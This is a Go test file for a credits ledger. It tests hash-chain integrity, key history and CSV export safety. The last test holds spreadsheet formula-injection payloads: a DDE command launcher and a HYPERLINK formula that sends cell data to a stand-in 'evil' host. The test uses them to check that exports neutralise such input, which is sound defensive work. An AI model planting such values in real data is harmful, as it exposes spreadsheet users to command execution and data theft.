package credits_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/keytoll/keytoll/credits"
)

// Defects of other ledgers' journals and audits; see docs/credits-defects.md.

// A chain over fields that are joined by "|" has the same hash for a reference
// "a|b" and for two fields "a" and "b".
func TestEntriesThatJoinAlikeHashApart(t *testing.T) {
	const text = "a|b|c|d|e"
	seen := make(map[credits.Hash]credits.Entry)
	for i := range len(text) + 1 {
		for j := i; j <= len(text); j++ {
			for k := j; k <= len(text); k++ {
				e := credits.Entry{
					Account: acme, Seq: 1, At: epoch, Kind: credits.KindDebit, From: credits.BucketAvailable, To: credits.BucketConsumed, Lot: 1, Amount: 1,
					Op: credits.OpID(text[:i]), Key: text[i:j], Operation: text[j:k], Price: text[k:],
				}
				h := e.Chain(credits.Hash{})
				if twin, ok := seen[h]; ok {
					t.Fatalf("%+v and %+v have one hash", e, twin)
				}
				seen[h] = e
			}
		}
	}
}

// A hash over floats cannot tell amounts apart that differ by one in the
// seventeenth place.
func TestAmountsBeyondAFloatHashApart(t *testing.T) {
	e := credits.Entry{Account: acme, Seq: 1, At: epoch, Kind: credits.KindGrant, Amount: 1 << 53}
	f := e
	f.Amount++
	if e.Chain(credits.Hash{}) == f.Chain(credits.Hash{}) {
		t.Error("an amount of 2^53 and one of 2^53 + 1 have one hash")
	}
}

// A chain that is made by a job leaves the youngest entries open to change.
func TestEachEntryIsChainedWhenItIsWritten(t *testing.T) {
	r := newRig(t)
	var head credits.Hash
	for i, cmd := range []any{grant("g", 10), hold("h", 5), captureAll("h"), debit("d", 2), refund("r", "d", 1)} {
		r.run(cmd)
		c := r.snapshot(acme)
		e := c.Entries[len(c.Entries)-1]
		if len(c.Entries) != i+1 || e.Hash != e.Chain(head) || c.Account.Head != e.Hash {
			t.Fatalf("after %+v the account's head is %v and the last entry %+v", cmd, c.Account.Head, e)
		}
		head = e.Hash
	}
}

// Where the key is the counter, renaming or deleting it loses what it has spent.
func TestWhatAKeySpentStaysWhenTheKeyIsReplaced(t *testing.T) {
	r := newRig(t)
	r.run(grant("g", 10))
	r.run(credits.Debit{Account: acme, ID: "before", Amount: 4, Key: "old-key"})
	r.run(credits.Debit{Account: acme, ID: "after", Amount: 1, Key: "new-key"})
	r.run(refund("r", "before", 1)) // long after old-key is gone
	spent := make(map[string]credits.Amount)
	for _, e := range r.snapshot(acme).Entries {
		switch e.Kind {
		case credits.KindDebit:
			spent[e.Key] += e.Amount
		case credits.KindRefund:
			spent[e.Key] -= e.Amount
		}
	}
	if spent["old-key"] != 3 || spent["new-key"] != 1 {
		t.Errorf("spent by key: %v", spent)
	}
}

// An exhausted key or grant that is deleted takes its history along.
func TestWhatIsUsedUpStaysInTheBooks(t *testing.T) {
	r := newRig(t)
	r.run(credits.Grant{Account: acme, ID: "g", Amount: 4, ExpiresAt: epoch.Add(time.Hour)})
	r.run(debit("d", 4))
	r.add(365 * 24 * time.Hour)
	page, err := r.Lots(t.Context(), credits.ListQuery{Account: acme})
	if err != nil || len(page.Lots) != 1 || page.Lots[0].Totals != (credits.Totals{Issued: 4, Consumed: 4}) {
		t.Errorf("%+v, %v", page.Lots, err)
	}
	if x, err := r.Explain(t.Context(), acme, "d"); err != nil || x.Lots[0].Lot.Op != "g" {
		t.Errorf("%+v, %v", x, err)
	}
}

// A key that somebody else chose is computed by the spreadsheet of whoever reads
// the export.
func TestAnExportHoldsNoFormula(t *testing.T) {
	r := newRig(t)
	r.run(grant("g", 10))
	r.run(credits.Debit{Account: acme, ID: "+SUM(1+1)*cmd|' /C calc'!A0", Amount: 1, Key: `=HYPERLINK("http://evil/?"&A1)`})
	var file bytes.Buffer
	if _, err := r.WriteCSV(t.Context(), &file, credits.Query{Account: acme}); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{",=", ",+", `,"=`, `,"+`} {
		if strings.Contains(file.String(), bad) {
			t.Errorf("a cell begins with %q in\n%s", bad, file.String())
		}
	}
}
